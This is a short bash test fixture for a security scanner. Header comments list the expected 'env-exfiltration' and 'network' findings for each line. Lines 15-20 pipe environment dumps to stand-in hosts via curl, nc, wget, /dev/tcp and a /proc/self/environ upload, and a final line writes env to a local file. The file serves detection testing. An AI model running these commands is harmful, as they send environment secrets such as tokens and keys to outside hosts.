#!/bin/bash
# expect: 15 env-exfiltration critical
# expect: 15 network high
# expect: 16 env-exfiltration critical
# expect: 16 network high
# expect: 17 env-exfiltration critical
# expect: 17 network high
# expect: 18 env-exfiltration critical
# expect: 18 network high
# expect: 19 env-exfiltration critical
# expect: 19 network high
# expect: 20 env-exfiltration critical
# expect: 20 network high
# Environment dumps sent over the network.
env | curl -X POST --data-binary @- https://collect.example.com/
printenv | nc 198.51.100.2 4444
curl -d "$(env)" http://203.0.113.9/
export -p | base64 | wget --post-file=/dev/stdin http://x.example/
env > /dev/tcp/203.0.113.5/80
curl -T /proc/self/environ https://paste.example
env | sort > out/env.txt
